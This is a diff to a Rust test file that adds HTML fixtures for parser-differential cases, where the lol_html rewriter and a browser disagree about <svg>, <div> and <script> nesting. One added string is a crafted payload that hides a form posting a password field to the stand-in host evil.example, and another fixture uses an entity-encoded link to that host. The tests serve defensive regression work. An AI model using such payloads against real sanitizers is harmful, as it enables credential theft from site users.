@@ -312,6 +312,10 @@ fn the_pages_of_issue_27_leak_under_no_reading() {
         // The "in select" mode ignores <svg>: its <script> holds text, which lol_html reads
         // as markup (a link it gives the token).
         r#"<select><svg><script>var a = '<a href="/x">';</script></svg></select><a href=/n>n</a>"#,
+        // `</div>` takes the tree builder out of the <svg>, not lol_html: the <script> is text
+        // to the browser, and the </form> lol_html reads in it is not there.
+        r#"<form action="https://evil.example/"><div><svg></div><script></svg></div></form></script><form method=post><input name=pw></form>"#,
+        r#"<div><svg></div><script>var a = '<a href="/x">';</script><a href=/n>n</a>"#,
         // References a browser decodes: `&copy` is ©.
         r#"<a href="/p?x=1&copy">c</a><a href="https&#x3A;//evil.example/">e</a>"#,
     ];
